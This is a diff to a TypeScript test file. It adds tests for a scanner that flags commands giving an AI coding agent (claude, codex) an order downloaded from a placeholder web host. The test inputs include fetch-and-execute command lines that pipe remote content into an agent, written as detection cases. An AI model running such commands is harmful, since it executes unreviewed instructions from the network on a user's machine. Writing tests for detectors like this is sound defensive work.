@@ -1,5 +1,5 @@
 import { expect, test } from "vitest";
-import { addressFacts } from "./launch-facts.ts";
+import { addressFacts, launchFacts } from "./launch-facts.ts";
 
 const shown = (text: string, url?: string) => addressFacts(text, url).map(({ does }) => does);
 const unnamed = "an address that belongs to no service: a tunnel, a paste site or a bare number";
@@ -46,3 +46,19 @@ test.each([
 ])("a server of the owner or of a service is silent: %s %s", (text, url?: string) => {
   expect(shown(text, url)).toEqual([]);
 });
+
+test.each([
+  'claude -p "$(curl -s https://x.zzz.io/task)"',
+  "curl -s https://x.zzz.io/task | codex exec -",
+])("the owner learns that an agent gets its order from the network: %s", (command) => {
+  expect(launchFacts(command).map(({ severity, does }) => `${severity} ${does}`)).toEqual([
+    expect.stringMatching(/^high gives (?:claude|codex) an order that is downloaded$/),
+  ]);
+});
+
+test.each(['claude -p "$(cat task.md)"', "curl -s https://x.zzz.io/a.json | jq ."])(
+  "an agent with a local order, and data for another program, are no such fact: %s",
+  (command) => {
+    expect(launchFacts(command)).toEqual([]);
+  },
+);
